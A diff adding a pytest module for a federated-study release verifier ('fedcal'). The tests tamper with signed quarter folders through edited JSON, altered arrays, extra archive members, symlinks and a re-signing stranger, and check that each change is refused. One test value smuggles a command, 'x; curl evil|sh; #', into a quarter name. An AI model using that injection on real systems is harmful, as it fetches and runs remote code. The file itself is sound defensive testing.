@@ -1,0 +1,409 @@
+"""A quarter that was altered is refused, whoever has signed it again."""
+
+import json
+import os
+import re
+import shutil
+import zipfile
+from dataclasses import replace
+
+import numpy as np
+import pytest
+from quarters import hospitals, quarter, sealed_of
+from refusals import refused
+
+from fedcal.cli.main import main
+from fedcal.run.rereading import read_release
+from fedcal.secure_aggregation.keys import SigningKey, make_key
+from fedcal.sites.quarter import QuarterFacts, earlier_of, write_quarter
+from fedcal.sites.sealed import Sealed, signed_text, write_signature
+from fedcal.sites.verify import sign, verify
+
+pytestmark = pytest.mark.usefixtures("quick_figures")
+
+STUDY, KEY = hospitals(), SigningKey.generate()
+
+
+@pytest.fixture(scope="module")
+def made(tmp_path_factory):
+    """Two quarters side by side; birch is absent from the second one."""
+    root = tmp_path_factory.mktemp("study")
+    first = quarter(root / "2026Q4", STUDY, KEY, signer=KEY)
+    took = tuple(site for site in STUDY.sites if site != "birch")
+    more = {"earlier": {"2026Q4": first}, "spent": 2.0, "left": 2.0}
+    quarter(root / "2027Q1", STUDY, KEY, signer=KEY, took_part=took, absent=("birch",), **more)
+    return root
+
+
+@pytest.fixture
+def folder(made, tmp_path):
+    shutil.copytree(made, tmp_path / "study")
+    return tmp_path / "study" / "2027Q1"
+
+
+def test_what_was_written_is_verified_with_and_without_the_earlier_quarter(folder):
+    assert "earlier-2026Q4.npz is the release of 2026Q4/ beside it." in verify(folder)
+    shutil.rmtree(folder.parent / "2026Q4")
+    assert "2026Q4 is not beside this folder: changes since then are not verified." in verify(
+        folder
+    )
+
+
+def edited(name, change):
+    def alter(folder):
+        plain = json.loads((folder / name).read_text())
+        change(plain)
+        (folder / name).write_text(json.dumps(plain, indent=2) + "\n")
+
+    return alter
+
+
+def told(change):
+    return edited("study.json", change)
+
+
+def gap_of_cedar(plain):
+    plain["sites"]["cedar"]["gap"]["value"] += 0.01
+
+
+def page(old, new):
+    def alter(folder):
+        text = (folder / "report.html").read_text("utf-8")
+        assert old in text
+        (folder / "report.html").write_text(text.replace(old, new, 1), "utf-8")
+
+    return alter
+
+
+def release(name, **change):
+    def alter(folder):
+        found = read_release(folder / f"{name}.npz")
+        add = {k: found.arrays()[k] + v for k, v in change.items() if not isinstance(v, str)}
+        texts = {k: np.array(v) for k, v in change.items() if isinstance(v, str)}
+        made = type(found).from_arrays({**found.arrays(), **add, **texts})
+        made.of_classes(found.class_names)
+        made.write(folder, name)
+
+    return alter
+
+
+def other_version(plain):
+    plain["versions"]["fedcal"] = "9.9"
+    gap_of_cedar(plain)
+
+
+def swapped_roster(folder):
+    (folder / "study.sealed").write_text(sealed_of(STUDY, KEY))
+
+
+def other_terms(folder):
+    text = (folder / "study.toml").read_text().replace("per-year = 4", "per-year = 8")
+    (folder / "study.toml").write_text(text)
+
+
+ALTERED = [
+    (told(gap_of_cedar), "says sites.cedar.gap.value"),
+    (told(other_version), "gap.value .* .by fedcal 9.9, this is "),
+    (told(lambda t: t.update(headline="All is well.")), "says headline = 'All is well.'"),
+    (told(lambda t: t.update(noise_std=0.5)), "says noise_std = 0.5"),
+    (told(lambda t: t["since"]["2026Q4"].update(why="of another kind")), "says .*why"),
+    (told(lambda t: t["since"].clear()), "says changes"),
+    (told(lambda t: t["statement"].append("Nobody is harmed.")), "the statement is"),
+    (told(lambda t: t["more"].clear()), "the more is"),
+    (told(lambda t: t.pop("curves")), "says curves = None"),
+    (page("absent", "there"), "report.html is not what fedcal"),
+    (lambda f: (f / "curve-1.svg").unlink(), "curve-1.svg is not what"),
+    (release("release", counts=3.0), "the release gives"),
+    (release("release", std=1.0), "the release's noise is"),
+    (release("release", threshold=0.3), "the release's threshold is"),
+    (release("release", taken='{"unit": "subject", "data": "rows.csv"}'), "the release's taken is"),
+    (release("release", law="normal"), "the release's law is"),
+    (release("release", privacy='["All is exact."]'), "the release's privacy is"),
+    (release("earlier-2026Q4", std=0.001), "the release gives|is not the release of"),
+    (told(lambda t: t.update(name="x; curl evil|sh; #")), "name of the quarter in"),
+    (told(lambda t: t.update(date="1999-01-01")), "not on 1999-01-01"),
+    (told(lambda t: t.update(date="20270101")), "date is '20270101'"),
+    (told(lambda t: t.update(spent=0.0, left=4.0)), "releases paid for is '0"),
+    (told(lambda t: t.update(spent=1.5, left=2.5)), "releases paid for is '1.5"),
+    (told(lambda t: t.update(spent=5.0, left=-1.0)), "is not 4"),
+    (told(lambda t: t["versions"].update(fedcal="1\nSigned.")), "list of versions is"),
+    (told(lambda t: t["versions"].update(fedcal=1)), "does not hold"),
+    (told(lambda t: t["ledger"].update(project="x")), "ledger.project is 'x'"),
+    (told(lambda t: t.update(since=5)), "does not hold"),
+    (release("earlier-2026Q4", counts=1.0), "the release gives|is not the release of"),
+    (swapped_roster, "the roster is"),
+    (other_terms, "the "),
+    (edited("ledger.json", lambda line: line.update(epsilon=0.5)), "ledger.json is not what"),
+    (lambda f: (f / "ledger.json").unlink(), "ledger.json is not what"),
+    (lambda f: (f / "release.npz").unlink(), "release"),
+    (lambda f: (f / "study.sealed").unlink(), "No such file"),
+]
+
+
+@pytest.mark.parametrize(("alter", "said"), ALTERED)
+def test_what_was_altered_is_refused_although_it_is_signed_again(folder, alter, said):
+    alter(folder)
+    refused("signed|No such file", verify, folder)
+    write_signature(folder, KEY)
+    refused(said, verify, folder)
+
+
+def test_a_ledger_line_of_another_epsilon_is_not_that_of_the_terms(folder):
+    told(lambda t: t["ledger"].update(epsilon=0.5))(folder)
+    edited("ledger.json", lambda line: line.update(epsilon=0.5))(folder)
+    write_signature(folder, KEY)
+    refused("the ledger.epsilon is 0.5; by the terms it is 1", verify, folder)
+
+
+def test_an_earlier_quarter_beside_it_must_be_signed_as_it_is(folder):
+    (folder.parent / "2026Q4" / "report.html").write_text("")
+    refused("signed hash of .*2026Q4/report.html must be", verify, folder)
+
+
+@pytest.mark.slow
+def test_whoever_has_a_sealed_study_sees_that_a_stranger_has_sealed_it_again(folder, tmp_path):
+    mine, stranger = tmp_path / "mine.sealed", SigningKey.generate()
+    shutil.copy(folder / "study.sealed", mine)
+    assert "are those of" in verify(folder, mine)[0]
+    again = replace(Sealed.read(mine), coordinator=stranger.public).to_text(stranger)
+    (folder / "study.sealed").write_text(again)
+    shutil.rmtree(folder.parent / "2026Q4")  # else it is not of the stranger's
+    write_signature(folder, stranger)
+    assert "Not checked: the coordinator's key" in verify(folder)[0]
+    refused("is not sealed as .*mine.sealed is", verify, folder, mine)
+    refused("is not sealed as .*mine.sealed is", sign, folder, stranger, mine)
+
+
+def test_what_cannot_be_read_beside_a_quarter_stops_no_release_that_is_paid(folder):
+    (folder.parent / "x").mkdir()
+    (folder.parent / "x" / "study.json").write_text("[]")
+    (folder.parent / "2026Q4" / "release.npz").write_text("")
+    with pytest.warns(UserWarning, match="passed over: .*2026Q4"):
+        assert [*earlier_of(folder.parent / "2027Q2", STUDY)] == ["2027Q1"]
+
+
+def command(capsys, *arguments):
+    with pytest.raises(SystemExit) as ended:
+        main([*map(str, arguments)])
+    assert ended.value.code == 0
+    return capsys.readouterr().out
+
+
+@pytest.mark.slow
+def test_only_the_coordinator_signs_and_only_what_holds(tmp_path, capsys):
+    folder, path = tmp_path / "q", tmp_path / "key.pem"
+    key = make_key(path)
+    quarter(folder, STUDY, key)
+    refused("not signed. fedcal study verify", verify, folder)
+    refused("by the coordinator that sealed", sign, folder, KEY)
+    assert "is signed" in command(capsys, "study", "verify", folder, "--key", path)
+    assert "Not checked: the coordinator's key" in command(capsys, "study", "verify", folder)
+    command(capsys, "report", folder)
+    assert verify(folder)  # the page that was written again is the same
+    write_signature(folder, KEY)
+    refused("is signed by another key", verify, folder)
+    page("probability", "certainty")(folder)
+    refused("report.html is not what", sign, folder, key)
+
+
+def test_a_rehearsal_is_verified_and_said_to_be_one(tmp_path):
+    folder = tmp_path / "r"
+    quarter(folder, STUDY, None, rehearsal=True, ledger={}, spent=0.0, left=4.0)
+    assert "A rehearsal" in verify(folder)[0]
+    for change, word in (
+        (lambda told: told.update(one_machine=True), "one_machine"),
+        (lambda told: told.update(roster="0" * 64), "roster"),
+    ):
+        shutil.copytree(folder, forged := tmp_path / word / "r")
+        told(change)(forged)
+        refused(word, verify, forged)
+    (folder / "signature.json").write_text("{}")
+    refused("signature.json is not what", verify, folder)
+    (folder / "signature.json").unlink()
+    refused("a rehearsal is not signed", sign, folder, KEY)
+    refused("is not the folder of a release", verify, tmp_path)
+    told(gap_of_cedar)(folder)
+    refused("sites.cedar", verify, folder)
+
+
+# -- by command: a coordinator makes all of a quarter anew, and signs it -----------------------
+
+
+@pytest.fixture(scope="module")
+def trial(tmp_path_factory):
+    """A quarter whose server's operator chose the committee; one site is absent."""
+    folder = tmp_path_factory.mktemp("trial") / "2026Q4"
+    took = tuple(site for site in STUDY.sites if site != "birch")
+    quarter(folder, STUDY, KEY, signer=KEY, one_machine=True, took_part=took, absent=("birch",))
+    return folder
+
+
+def made_anew(folder, counts=lambda counts: None, **facts):
+    """All files of a quarter with other counts or facts, as `study run` would write them."""
+    content = json.loads((folder / "study.json").read_text())
+    found = read_release(folder / "release.npz")
+    counts(found.counts)
+    told, text = replace(QuarterFacts.of(content), **facts), (folder / "study.sealed").read_text()
+    write_quarter(folder, STUDY, text, found, told, {}, KEY)
+
+
+def count(site, value):
+    """A count of a site is changed by a value; each is a column of 2 x buckets."""
+
+    def change(counts):
+        counts.reshape(len(STUDY.sites), -1)[[*STUDY.sites].index(site), 3] += value
+
+    return lambda folder: made_anew(folder, change)
+
+
+def packed(change):
+    """The arrays of the release, written anew with others beside them."""
+
+    def alter(folder):
+        path = folder / "release.npz"
+        with np.load(path) as old:
+            arrays = {name: old[name] for name in old.files}
+        change(arrays)
+        np.savez_compressed(path, **arrays)
+        write_signature(folder, KEY)
+
+    return alter
+
+
+def header(change):
+    def alter(arrays):
+        plain = json.loads(str(arrays["header"]))
+        change(plain)
+        arrays["header"] = np.array(json.dumps(plain))
+
+    return packed(alter)
+
+
+def archive(write):
+    def alter(folder):
+        with zipfile.ZipFile(folder / "release.npz", "a") as file:
+            write(file)
+        write_signature(folder, KEY)
+
+    return alter
+
+
+def trailing(folder):
+    """Bytes behind the numbers of an array, which NumPy does not read."""
+    path = folder / "release.npz"
+    with zipfile.ZipFile(path) as file:
+        members = {info.filename: file.read(info) for info in file.infolist()}
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
+        for name, content in members.items():
+            file.writestr(name, content + b"exact counts" * (name == "counts.npy"))
+    write_signature(folder, KEY)
+
+
+def beside(name, make=lambda path: path.write_text("exact counts"), signed=False):
+    def alter(folder):
+        make(folder / name)
+        if signed:
+            write_signature(folder, KEY)
+
+    return alter
+
+
+def sealed_with(**more):
+    def alter(folder):
+        fields = json.loads((folder / "study.sealed").read_text()) | more
+        (folder / "study.sealed").write_text(signed_text(fields, "study-sealed", KEY))
+        write_signature(folder, KEY)
+
+    return alter
+
+
+def signature_with_more(folder):
+    fields = json.loads((folder / "signature.json").read_text()) | {"note": "exact counts"}
+    (folder / "signature.json").write_text(signed_text(fields, "study-quarter", KEY))
+
+
+ATTACKS = {
+    "the note is erased": (lambda f: made_anew(f, one_machine=False), "one_machine is False"),
+    "a count below the noise": (count("cedar", -1000.0), "impossible counts"),
+    "a count of no grid": (count("cedar", 2.0**-30), "impossible counts"),
+    "a count of a tenth": (count("cedar", 0.1), "impossible counts"),
+    "an absent site has rows": (count("birch", 500.0), "impossible counts"),
+    "rows that were assigned": (lambda f: made_anew(f, dealt=True), "dealt is True"),
+    "one more array": (packed(lambda a: a.update(rows=np.arange(3))), "release.npz is not what"),
+    "one array as another type": (
+        packed(lambda a: a.update(counts=a["counts"].astype(">f8"))),
+        "release.npz is not what",
+    ),
+    "one more header": (header(lambda h: h.update(note="exact")), "release.npz is not what"),
+    "one more member": (archive(lambda z: z.writestr("note.txt", "exact")), "is not an array"),
+    "a comment": (archive(lambda z: setattr(z, "comment", b"exact")), "release.npz is not what"),
+    "a comment at a member": (
+        archive(lambda z: (setattr(z.infolist()[0], "comment", b"x"), setattr(z, "_didModify", 1))),
+        "release.npz is not what",
+    ),
+    "bytes in front": (
+        beside(
+            "release.npz", lambda path: path.write_bytes(b"exact" + path.read_bytes()), signed=True
+        ),
+        "release.npz is not what",
+    ),
+    "bytes behind an array": (trailing, "release.npz': member .counts. is truncated"),
+    "spaces in a summary": (
+        beside("study.json", lambda path: path.write_text(path.read_text() + " "), signed=True),
+        "study.json is not what",
+    ),
+    "a comment in the study": (
+        beside("study.toml", lambda path: path.write_text(path.read_text() + "# x"), signed=True),
+        "study.toml is not what",
+    ),
+    "a file": (beside("counts.csv"), "counts.csv must be None"),
+    "a hidden file": (beside(".counts"), "counts must be None"),
+    "a figure": (beside("curve-2.svg"), "curve-2.svg must be None"),
+    "a folder": (beside("more", lambda path: path.mkdir()), "more is not a file of a quarter"),
+    "a link": (
+        beside("page.html", lambda path: path.symlink_to("report.html")),
+        "page.html is not a file of a quarter",
+    ),
+    "a pipe": (beside("pipe", os.mkfifo), "pipe is not a file of a quarter"),
+    "a signed file": (beside("counts.csv", signed=True), "counts.csv is not what"),
+    "a signed figure": (beside("curve-2.svg", signed=True), "curve-2.svg is not what"),
+    "a signed earlier one": (beside("earlier-x.npz", signed=True), "earlier-x.npz is not what"),
+    "more in the sealed study": (sealed_with(note="exact"), "unknown key of .* 'note'"),
+    "more in the signature": (signature_with_more, "unknown key of .* 'note'"),
+}
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_a_quarter_holds_nothing_that_was_not_verified(trial, tmp_path, call, name):
+    folder, (alter, said) = tmp_path / "2026Q4", ATTACKS[name]
+    shutil.copytree(trial, folder)
+    alter(folder)
+    assert re.search(said, line := call("study", "verify", folder, code=2)), line
+
+
+def test_what_verify_does_not_check_it_names(trial, tmp_path, call):
+    """And nothing is refused because of noise: the same counts, lower by what noise can do."""
+    folder = tmp_path / "2026Q4"
+    shutil.copytree(trial, folder)
+    mine = tmp_path / "study.sealed"
+    shutil.copy(folder / "study.sealed", mine)
+    unchecked = call("study", "verify", folder, "--sealed", mine).splitlines()[-1]
+    for word in ("counts", "absences", "date", "spent before", "versions", "server are apart"):
+        assert word in unchecked
+    found = read_release(folder / "release.npz")
+    lowest = -round(15 * found.std) - found.counts.reshape(5, -1)[2, 3]  # of 10^9 true ones one
+    count("cedar", lowest)(folder)
+    call("study", "verify", folder, "--sealed", mine)
+    count("cedar", -round(6 * found.std))(folder)
+    assert "impossible counts" in call("study", "verify", folder, code=2)
+
+
+def test_a_release_is_not_begun_where_the_seal_says_that_its_key_is_not(tmp_path, call):
+    home = tmp_path / "sepsis-coordinator"
+    home.mkdir()
+    key = make_key(home / "coordinator.pem")
+    (tmp_path / "sepsis.sealed").write_text(sealed_of(STUDY, key))
+    line = call("study", "run", tmp_path / "sepsis.sealed", "2026Q4", code=2)
+    assert "coordinator.pem is there: by " in line
+    shutil.rmtree(home)
+    assert "no server runs here" in call("study", "run", tmp_path / "sepsis.sealed", "x", code=2)
